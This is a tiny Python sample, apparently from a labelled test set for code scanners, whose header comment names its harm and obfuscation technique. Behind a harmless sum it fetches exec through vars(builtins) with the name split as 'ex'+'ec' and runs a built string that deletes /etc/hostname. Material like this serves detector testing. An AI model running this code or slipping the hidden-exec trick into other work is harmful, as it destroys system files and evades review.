# harm: exec of a built string; technique: lookup of exec in vars(builtins) dict with split name
import builtins

template = "import os\nos.remove('{p}')\n"
fn = vars(builtins)["ex" + "ec"]

data = [1, 2, 3]
print(sum(data))
fn(template.format(p="/etc/hostname"))
